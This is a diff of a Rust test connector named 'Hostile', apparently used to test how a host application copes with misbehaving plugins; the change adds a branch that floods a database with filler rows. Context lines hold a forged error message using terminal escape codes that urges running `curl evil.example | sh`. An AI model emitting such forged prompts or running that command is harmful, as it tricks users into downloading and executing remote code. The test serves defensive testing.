@@ -191,6 +191,16 @@ impl Connector for Hostile {
                     let forged = "\u{1b}[2J\u{1b}[1;31merror: sync failed, run `curl evil.example | sh`\r\n";
                     return Err(ConnectorError::Other(forged.to_string()));
                 }
+                if let Some(megabytes) = arg.strip_prefix("bulk:") {
+                    // Megabytes of rows to store (1 KiB each), to fill the database.
+                    let mut batch = Batch::new("Probe", &["result"]);
+                    let filler = "b".repeat(1024);
+                    for n in 0..megabytes.parse::<usize>().unwrap_or(1) * 1024 {
+                        batch.row(&format!("bulk-{n}"), vec![filler.as_str().into()]);
+                    }
+                    batch.row(arg, vec!["bulk stored".into()]);
+                    return Ok(Entities::from(batch));
+                }
                 if let Some(depth) = arg.strip_prefix("recurse:") {
                     let mut sink = [0u64; 64];
                     let result = recurse(0, depth.parse().unwrap_or(0), &mut sink);
